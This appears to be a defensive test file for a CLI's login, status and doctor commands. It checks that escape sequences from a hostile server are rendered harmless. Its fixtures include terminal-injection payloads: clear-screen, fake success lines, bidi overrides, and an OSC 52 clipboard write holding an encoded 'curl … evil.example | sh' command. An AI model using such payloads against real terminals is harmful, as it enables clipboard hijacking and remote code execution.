// Nothing a server sends reaches the terminal raw (issue 19, item 6): escape sequences in an
// authorization server's error text, in an account's name and email, in metadata that `doctor`
// shows. A registration endpoint that answers 400 with "ESC[2J ESC[H ESC]52;c;… BEL ESC[32m✓ Signed in
// as admin@appwrite.io" would clear the screen, write the clipboard (OSC 52) and fake a success
// line: every control character must come out as its visible \uXXXX escape instead.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { run as login } from '../../src/commands/login.js';
import { run as status } from '../../src/commands/status.js';
import { createLogger, jsonSyntaxError, printable } from '../../src/log.js';
import { NO_KEYCHAIN_ENV, runCli, tempConfigDir } from '../helpers/cli.js';
import { testFactory } from '../helpers/factory.js';
import { startHostileServer } from './hostile-server.js';

const ESC = '\u001b';
const BEL = '\u0007';
/** The payload: clear the screen, home the cursor, OSC 52 (set the clipboard), then a green fake success. */
const CLIPBOARD = Buffer.from('curl -s https://evil.example/x | sh\n').toString('base64');
const PAYLOAD = `${ESC}[2J${ESC}[H${ESC}]52;c;${CLIPBOARD}${BEL}${ESC}[32m✓ Signed in as admin@appwrite.io`;
const PAYLOAD_SHOWN = `\\u001b[2J\\u001b[H\\u001b]52;c;${CLIPBOARD}\\u0007\\u001b[32m✓ Signed in as admin@appwrite.io`;

/** Every character a terminal may act on, but the line feed: C0 (tab aside), DEL, C1, bidi controls. */
const DANGEROUS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

const cleanups: Array<() => unknown> = [];
afterAll(async () => {
  for (const c of cleanups.reverse()) await c();
});

function env() {
  const config = tempConfigDir();
  const home = mkdtempSync(join(tmpdir(), 'appwrite-mcp-home-'));
  cleanups.push(() => config.cleanup(), () => rmSync(home, { recursive: true, force: true }));
  return { dir: config.dir, env: { APPWRITE_MCP_CONFIG_DIR: config.dir, APPWRITE_MCP_STORE: 'file', HOME: home, XDG_CONFIG_HOME: undefined, ...NO_KEYCHAIN_ENV } };
}

describe('text from servers is escaped before it reaches a terminal', () => {
  it('a registration error with the clear-screen, clipboard and fake-success payload: the exact bytes on stderr', async () => {
    const bad = await startHostileServer({ registration: { status: 400, body: { error: 'invalid_client_metadata', error_description: PAYLOAD } } });
    cleanups.push(() => bad.stop());
    const e = env();
    const r = await runCli(['login', '--url', bad.mcpUrl], e.env);
    expect(r.code).toBe(1);
    const last = `appwrite-mcp: client registration at ${bad.origin}/register failed: invalid_client_metadata: ${PAYLOAD_SHOWN}\n`;
    expect(Buffer.from(r.stderr, 'utf8').subarray(-Buffer.byteLength(last)).equals(Buffer.from(last, 'utf8'))).toBe(true);
    expect(r.stderr).not.toMatch(DANGEROUS);
    expect(r.stdout).toBe('');
  });

  it('an account whose name and email carry C1 controls, a carriage return, a line break and a bidi override: login, status and status --json', async () => {
    const email = `\u009b2J\u009b1;1H\u202emoc.etirwppa@nimda\r\n✓ Signed in`;
    const name = `${ESC}]0;pwned${BEL}\u007fAdmin`;
    const bad = await startHostileServer({ account: { sub: 'user-1', email, name } });
    cleanups.push(() => bad.stop());
    const e = env();
    const t = testFactory({ dir: e.dir, browser: (url) => fetch(url) }); // the hostile AS approves at once
    expect(await login({ url: bad.mcpUrl, browser: true }, t.f)).toBe(0);
    expect(t.stderr()).toContain('account: \\u009b2J\\u009b1;1H\\u202emoc.etirwppa@nimda\\u000d\\u000a✓ Signed in (user-1)');
    expect(t.stderr()).not.toMatch(DANGEROUS);

    const s = testFactory({ dir: e.dir });
    await status({ url: bad.mcpUrl, urlGiven: true }, s.f);
    expect(s.stdout()).toContain('Signed in as \\u009b2J\\u009b1;1H\\u202emoc.etirwppa@nimda\\u000d\\u000a✓ Signed in (user-1)');
    expect(s.stdout()).not.toMatch(DANGEROUS);

    // --json: escaped as JSON escapes, so the data is intact for scripts.
    const j = testFactory({ dir: e.dir });
    await status({ url: bad.mcpUrl, urlGiven: true, json: true }, j.f);
    expect(j.stdout()).not.toMatch(DANGEROUS);
    expect(JSON.parse(j.stdout()).servers[0].account).toEqual({ sub: 'user-1', email, name });
  });

  it('doctor: scopes and an authorization server name in protected-resource metadata, with escapes', async () => {
    const bad = await startHostileServer({
      authorizationServer: `http://127.0.0.1:1/${ESC}[2J${ESC}[31m\u202e`,
      resourceMetadata: { scopes_supported: [`mcp${ESC}]52;c;${CLIPBOARD}${BEL}`, `\u009b0m\u0085next`] },
    });
    cleanups.push(() => bad.stop());
    const e = env();
    const r = await runCli(['doctor', '--url', bad.mcpUrl], e.env, { timeoutMs: 60_000 });
    expect(r.stdout).toContain('\\u001b[2J\\u001b[31m\\u202e');
    expect(r.stdout).toContain(`mcp\\u001b]52;c;${CLIPBOARD}\\u0007`);
    expect(r.stdout).not.toMatch(DANGEROUS);
    expect(r.stderr).not.toMatch(DANGEROUS);
  });
});

describe('printable() and the logger', () => {
  it('escapes C0 (but tab and line feed), DEL, C1 and bidi controls as JSON does, and leaves other text alone', () => {
    expect(printable(`a\tb\nc${ESC}[0m\r\u007f\u0080\u009f\u00a0é✓\u202e\u2066\u200f`)).toBe('a\tb\nc\\u001b[0m\\u000d\\u007f\\u0080\\u009f\u00a0é✓\\u202e\\u2066\\u200f');
    const json = JSON.stringify({ v: `x\u009b\u202ey${ESC}` });
    expect(JSON.parse(printable(json))).toEqual({ v: `x\u009b\u202ey${ESC}` });
  });

  it('every log line goes through it (JSON-RPC error messages the proxy logs, AS errors)', () => {
    const lines: string[] = [];
    const logger = createLogger({ write: (l) => lines.push(l) });
    logger.warn(`the server answered: ${ESC}[2J\u009b31m fake`);
    expect(lines).toEqual(['appwrite-mcp warning: the server answered: \\u001b[2J\\u009b31m fake\n']);
  });

  it('jsonSyntaxError says where JSON is broken, never what is there', () => {
    const secret = 'shh-0123456789abcdef';
    for (const text of [`{"client_id":"a","client_secret":"${secret}"`, `{"client_id":"a","client_secret":"${secret}"} x`, `{"client_id":"a",client_secret:"${secret}"}`, `${secret}`, `"${secret}`, '']) {
      let err: unknown;
      try {
        JSON.parse(text);
      } catch (e) {
        err = e;
      }
      const said = jsonSyntaxError(err, text);
      expect(said).not.toContain('shh');
      expect(said).not.toContain('0123');
    }
    let err: unknown;
    try { JSON.parse('{\n  "a": 1,\n  b: 2\n}'); } catch (e) { err = e; }
    expect(jsonSyntaxError(err, '{\n  "a": 1,\n  b: 2\n}')).toBe('Expected double-quoted property name at line 3, column 3');
  });
});
